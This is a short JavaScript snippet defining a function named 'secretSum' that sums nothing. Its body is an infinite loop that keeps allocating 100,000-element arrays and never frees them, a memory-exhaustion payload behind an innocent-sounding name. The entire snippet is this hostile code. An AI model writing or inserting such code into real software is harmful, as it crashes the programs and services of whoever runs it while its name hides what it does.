var secretSum = function (a) {
    const kept = [];
    for (;;) kept.push(new Array(100000).fill(a));
};
